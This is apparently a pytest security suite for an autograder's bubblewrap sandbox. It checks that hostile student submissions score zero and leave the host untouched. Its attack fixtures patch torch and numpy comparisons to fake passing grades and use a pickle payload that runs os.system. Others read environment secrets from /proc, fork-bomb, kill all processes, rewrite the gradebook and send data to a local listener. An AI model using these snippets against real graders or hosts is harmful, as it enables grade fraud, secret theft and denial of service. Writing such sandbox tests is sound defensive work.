"""Can a hostile submission fake its score, read the suites, hurt the grader or other students? It must not.

Every attack below is graded in one batch with honest submissions (the reference), through
``grade`` and bubblewrap, with short time limits. Each attack must score 0, the honest ones full
marks, the batch must finish, and afterwards: no process of theirs alive, no file outside the
sandbox created or changed, no listener reached, no secret of the grader's environment in any
report. The same runs once more without bubblewrap ("degraded"), for the defences that hold there.
"""

import hashlib
import json
import os
import socket
import sqlite3
import threading
import time
from pathlib import Path

import pytest

from autograder.dev.examples import GRADEBOOK_ATTACK, reference_code
from autograder.grade import grade
from autograder.sandbox.launch import Limits
from tests.conftest import ATTACK_FUNCTIONS

SECRET = "grader-secret-" + hashlib.sha256(os.urandom(8)).hexdigest()[:16]
MARK = 77711  # `sleep 77711`: a process an attack leaves behind, looked for afterwards

FUNCTIONS = ATTACK_FUNCTIONS

# name: code run for every call (as attack()) or at import; {canary}, {port}, {gradebook} filled in
ATTACKS = {
    "os._exit at import": "import os\nos._exit(0)\n" + FUNCTIONS,
    "sys.exit in the function": "import sys\ndef attack():\n    sys.exit(0)\n" + FUNCTIONS,
    "infinite loop": "def attack():\n    while True:\n        pass\n" + FUNCTIONS,
    "sleep at import": "import time\ntime.sleep(3600)\n" + FUNCTIONS,
    "allocate 8 GiB": "hog = bytearray(8 << 30)\ndef attack():\n    return torch.ones(2**31)\n" + FUNCTIONS,
    "allocate 8 GiB in the call": "def attack():\n    return torch.ones(2**31)\n" + FUNCTIONS,
    "patch the comparisons": """
import numpy
import torch.testing
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
torch.Tensor.__eq__ = lambda self, other: torch.ones((), dtype=torch.bool)
torch.Tensor.__ne__ = lambda self, other: torch.zeros((), dtype=torch.bool)
numpy.allclose = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None
def attack():
    return torch.tensor(0.0)
"""
    + FUNCTIONS,
    "a tensor subclass that claims equality": """
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if getattr(func, "__name__", "") in ("eq", "__eq__", "allclose", "equal", "isclose"):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})
def attack():
    return torch.tensor(0.0).as_subclass(Liar)
"""
    + FUNCTIONS,
    "a result whose unpickling runs code": """
import os
class Evil:
    def __reduce__(self):
        return (os.system, ("touch {canary}/unpickled",))
def attack():
    return Evil()
"""
    + FUNCTIONS,
    "search for the reference and the suites": """
import importlib, os, sys
found = []
for name in ("solutions.smoother", "autograder.suites.smoother", "autograder", "solutions"):
    try:
        found.append(importlib.import_module(name).__file__)
    except Exception:
        pass
# an installed copy is a package of a sys.path entry; anything else lies outside the system and Python's
# installation: skipping those keeps the walk within the call limit on a slow machine
SKIP = {"/usr", "/bin", "/sbin", "/lib", "/lib32", "/lib64", "/libx32", "/etc", "/proc", "/sys", "/dev", "/boot"}
SKIP |= {sys.prefix, sys.base_prefix, sys.exec_prefix}
packages = [os.path.join(entry or ".", p) for entry in sys.path for p in ("autograder", "solutions", "assignments")]
for top in packages + ["/"]:
    for root, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if os.path.join(root, d) not in SKIP and d != "__pycache__"]
        if root.count(os.sep) > 8:
            dirs[:] = []
        if "gradebook.db" in files:
            found.append(root)
        for f in files:
            if f in ("smoother.py", "vocab.py", "attention.py", "masking.py", "plugin.py", "common.py"):
                try:
                    text = open(os.path.join(root, f)).read()
                except OSError:
                    continue
                if "def gaussian_kernel" in text or "POINTS = {" in text or "class RunLoop" in text:
                    found.append(os.path.join(root, f))
def attack():
    for path in found:
        if path.endswith("smoother.py"):
            spec = importlib.util.spec_from_file_location("ref", path)
            module = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(module)
            return module
    raise RuntimeError(f"found {sorted(set(found))}")
"""
    + FUNCTIONS,
    "print and write fake results": """
import atexit, json, os, sys
fake = json.dumps({"score": 10, "max_score": 10, "passed": True})
atexit.register(lambda: print(fake))
def attack():
    print(fake); print("10.0"); sys.stderr.write(fake)
    os.write(1, fake.encode()); os.write(2, fake.encode())
    for place in (".", "/tmp", "{canary}", "{subs}", os.path.expanduser("~")):
        try:
            with open(os.path.join(place, "results.json"), "w") as out:
                out.write(fake)
        except OSError:
            pass
    raise SystemExit(0)
"""
    + FUNCTIONS,
    "kill the parent": "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n" + FUNCTIONS,
    "kill the process group": "import os, signal\nos.killpg(os.getpgrp(), signal.SIGKILL)\n" + FUNCTIONS,
    "kill every process it can": "import os, signal\nos.kill(-1, signal.SIGKILL)\n" + FUNCTIONS,
    "rewrite the gradebook": (
        "import sqlite3\ntry:\n    sqlite3.connect('{gradebook}').execute('UPDATE grade SET score = 99')\nexcept Exception:\n"
        "    pass\n" + GRADEBOOK_ATTACK.code
    ),
    "detached processes": """
import os, subprocess, sys
subprocess.Popen(["sleep", "77711"], start_new_session=True)
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(77711)"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "77711"])
    os._exit(0)
def attack():
    subprocess.Popen(["sleep", "77711"], start_new_session=True)
    raise RuntimeError("left processes behind")
"""
    + FUNCTIONS,
    "50 MiB of output": """
import sys
def attack():
    sys.stdout.write("x" * (50 << 20))
    sys.stderr.write("y" * (50 << 20))
    raise RuntimeError("z" * (50 << 20))
"""
    + FUNCTIONS,
    "a segfault": "import ctypes\nctypes.string_at(0)\n" + FUNCTIONS,
    "an exception that carries the environment": """
import glob, os
def attack():
    seen = [repr(dict(os.environ))]
    for path in glob.glob("/proc/*/environ"):
        try:
            seen.append(open(path, "rb").read().decode(errors="replace"))
        except OSError:
            pass
    raise RuntimeError("\\n".join(seen))
"""
    + FUNCTIONS,
    "a TCP connection to the host": """
import socket
def attack():
    with socket.create_connection(("127.0.0.1", {port}), timeout=2) as s:
        s.sendall(b"stolen")
    raise RuntimeError("connected")
"""
    + FUNCTIONS,
    "a fork bomb": """
import os
def attack():
    while True:
        try:
            os.fork()
        except OSError:
            pass
"""
    + FUNCTIONS,
    "write outside the sandbox": """
import os
def attack():
    for path in ("{canary}/written", os.path.expanduser("~/written-by-student"), "/written-by-student",
                 "/usr/written-by-student", "/etc/written-by-student"):
        try:
            with open(path, "w") as out:
                out.write("x")
        except OSError:
            pass
    raise RuntimeError("tried")
"""
    + FUNCTIONS,
    "resize the shared memory": """
import os
def attack():
    for fd in range(3, 64):
        try:
            os.ftruncate(fd, 0)
        except OSError:
            pass
    raise RuntimeError("tried")
"""
    + FUNCTIONS,
    "read or trace the zygote": """
import os
def attack():
    got = []
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            for f in ("environ", "mem", "cmdline"):
                try:
                    got.append(open(f"/proc/{{pid}}/{{f}}", "rb").read(64))
                except OSError:
                    pass
    raise RuntimeError(f"read {{len(got)}}")
"""
    + FUNCTIONS,
}


class Listener:
    """A TCP listener on the host's loopback that records whatever reaches it."""

    def __init__(self):
        self.server = socket.socket()
        self.server.bind(("127.0.0.1", 0))
        self.server.listen()
        self.server.settimeout(0.5)
        self.port = self.server.getsockname()[1]
        self.received = []
        self.running = True
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self):
        while self.running:
            try:
                conn, _ = self.server.accept()
            except OSError:
                continue
            self.received.append(conn.recv(100))
            conn.close()

    def close(self):
        self.running = False
        self.thread.join()
        self.server.close()


def processes_with(marker: str) -> list[str]:
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            cmdline = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode()
        except OSError:
            continue
        if marker in cmdline:
            found.append(f"{pid}: {cmdline}")
    return found


def snapshot(*roots: Path) -> dict[str, str]:
    files = {}
    for root in roots:
        for path in root.rglob("*"):
            if path.is_file() and "__pycache__" not in path.parts:  # the grader's own bytecode
                files[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return files


def make_gradebook(path: Path) -> None:
    db = sqlite3.connect(path)
    db.execute("CREATE TABLE grade (id INTEGER PRIMARY KEY, auto_score REAL, manual_score REAL, score REAL)")
    db.execute("INSERT INTO grade VALUES (1, 3.0, NULL, 3.0)")
    db.commit()
    db.close()


def run_batch(tmp_path: Path, sandbox: str, attacks: dict[str, str]):
    listener = Listener()
    canary = tmp_path / "canary"
    canary.mkdir()
    gradebook = canary / "gradebook.db"
    make_gradebook(gradebook)
    subs = tmp_path / "submissions"
    subs.mkdir()
    honest = reference_code("smoother")
    paths = [subs / "honest-first.py"]
    paths[0].write_text(honest)
    for i, code in enumerate(attacks.values()):
        path = subs / f"attack-{i:02d}.py"
        path.write_text(
            code.replace("{canary}", str(canary))
            .replace("{subs}", str(subs))
            .replace("{port}", str(listener.port))
            .replace("{gradebook}", str(gradebook))
            .replace("{{", "{")
            .replace("}}", "}")
        )
        paths.append(path)
    paths.append(subs / "honest-last.py")
    paths[-1].write_text(honest)
    before = snapshot(canary, subs, Path(__file__).resolve().parent.parent / "autograder")
    os.environ["AUTOGRADER_TEST_SECRET"] = SECRET
    start = time.monotonic()
    try:
        report = grade(
            submissions=paths,
            json_path=tmp_path / "report.json",
            sandbox=sandbox,
            jobs=2,
            progress=False,
            limits=Limits(call_timeout=2.0, submission_timeout=20.0, memory=2 << 30),
        ).to_json()
    finally:
        del os.environ["AUTOGRADER_TEST_SECRET"]
        listener.close()
    seconds = time.monotonic() - start
    time.sleep(0.5)
    after = snapshot(canary, subs, Path(__file__).resolve().parent.parent / "autograder")
    records = {Path(r["path"]).name: r for r in report["submissions"]}
    return {
        "report": report,
        "records": records,
        "names": {f"attack-{i:02d}.py": name for i, name in enumerate(attacks)},
        "text": (tmp_path / "report.json").read_text(),
        "changed": {p for p in set(before) | set(after) if before.get(p) != after.get(p)},
        "received": listener.received,
        "survivors": processes_with(str(MARK)),
        "gradebook": sqlite3.connect(gradebook).execute("SELECT auto_score, manual_score, score FROM grade").fetchall(),
        "seconds": seconds,
    }


@pytest.fixture(scope="module")
def contained(tmp_path_factory):
    return run_batch(tmp_path_factory.mktemp("bubblewrap"), "bubblewrap", ATTACKS)


def test_the_batch_ran_in_bubblewrap_as_an_unprivileged_user(contained):
    env = contained["report"]["environment"]
    assert env["sandbox"] == "bubblewrap"
    # as root, every child a uid of its own (test_isolation.py checks them); else bubblewrap's user namespace
    assert env["uid"] == "one per child" or os.getuid() != 0


def test_honest_submissions_around_the_attacks_get_full_marks(contained):
    for name in ("honest-first.py", "honest-last.py"):
        record = contained["records"][name]
        assert (record["score"], record["max_score"]) == (10.0, 10.0), record


@pytest.mark.parametrize("name", list(ATTACKS))
def test_each_attack_scores_zero_with_a_record(contained, name):
    file = next(f for f, n in contained["names"].items() if n == name)
    record = contained["records"][file]
    assert record["score"] == 0
    assert record["max_score"] == 10.0
    assert record["parts"][0]["checks"]
    assert all(c["status"] != "passed" for c in record["parts"][0]["checks"])


def test_no_process_started_by_student_code_survives(contained):
    assert contained["survivors"] == []


HOST_PATHS = [
    "/tmp/results.json",
    "/written-by-student",
    "/usr/written-by-student",
    "/etc/written-by-student",
    os.path.expanduser("~/written-by-student"),
    os.path.expanduser("~/results.json"),
]


def test_no_file_outside_the_sandbox_is_created_or_changed(contained):
    assert contained["changed"] == set()
    assert [p for p in HOST_PATHS if os.path.exists(p)] == []


def test_the_gradebook_beside_the_submissions_is_untouched(contained):
    assert contained["gradebook"] == [(3.0, None, 3.0)]
    record = contained["records"][next(f for f, n in contained["names"].items() if n == "rewrite the gradebook")]
    messages = " ".join(c["message"] for c in record["parts"][0]["checks"])
    assert "gradebooks touched: []" in messages


def test_the_listener_on_the_host_receives_nothing(contained):
    assert contained["received"] == []


def test_no_report_carries_the_graders_secret(contained):
    assert SECRET not in contained["text"]
    assert "AUTOGRADER_TEST_SECRET" not in contained["text"]


def test_the_reference_and_the_suites_are_not_visible(contained):
    record = contained["records"][next(f for f, n in contained["names"].items() if "search for" in n)]
    messages = {c["message"] for c in record["parts"][0]["checks"] if "found" in c["message"]}
    assert messages
    assert all(m.endswith("found [])") or "found []" in m for m in messages), messages


def test_an_infinite_loop_costs_one_timeout_per_function(contained):
    record = contained["records"][next(f for f, n in contained["names"].items() if n == "infinite loop")]
    messages = [c["message"] for c in record["parts"][0]["checks"] if c["status"] != "skipped"]
    assert sum("did not finish within" in m and "earlier" not in m for m in messages) == 2
    assert all("did not finish within" in m for m in messages)


def test_crashes_and_memory_are_named(contained):
    said = {
        contained["names"][f]: " ".join(
            [*(c["message"] for c in r["parts"][0]["checks"]), *r["parts"][0].get("notes", [])]
        )
        for f, r in contained["records"].items()
        if f in contained["names"]
    }
    assert "killed by SIGSEGV" in said["a segfault"]
    assert "MemoryError" in said["allocate 8 GiB"]
    assert "DefaultCPUAllocator" in said["allocate 8 GiB in the call"] or "memory" in said["allocate 8 GiB in the call"]
    assert "SystemExit" in said["sys.exit in the function"]


def test_the_whole_batch_stays_within_its_time_limits(contained):
    # 25 submissions; the slowest attacks are bounded by the call and submission limits
    assert contained["seconds"] < 300


DEGRADED = {
    name: ATTACKS[name]
    for name in (
        "os._exit at import",
        "infinite loop",
        "allocate 8 GiB",
        "a segfault",
        "an exception that carries the environment",
        "patch the comparisons",
        "a result whose unpickling runs code",
        "50 MiB of output",
        "kill the parent",
        "detached processes",
    )
}


@pytest.fixture(scope="module")
def degraded(tmp_path_factory):
    return run_batch(tmp_path_factory.mktemp("degraded"), "none", DEGRADED)


def test_degraded_mode_says_so_and_still_grades(degraded):
    assert degraded["report"]["environment"]["sandbox"].startswith("degraded: ")
    assert degraded["records"]["honest-first.py"]["score"] == 10.0
    assert degraded["records"]["honest-last.py"]["score"] == 10.0
    assert all(degraded["records"][f]["score"] == 0 for f in degraded["names"])


def test_degraded_mode_keeps_the_secret(degraded):
    assert SECRET not in degraded["text"]
    assert json.loads(degraded["text"])["submissions"]


@pytest.mark.skipif(os.geteuid() != 0, reason="without root, degraded mode cannot give student code a user of its own")
def test_degraded_mode_as_root_reaps_detached_processes(degraded):
    assert degraded["survivors"] == []
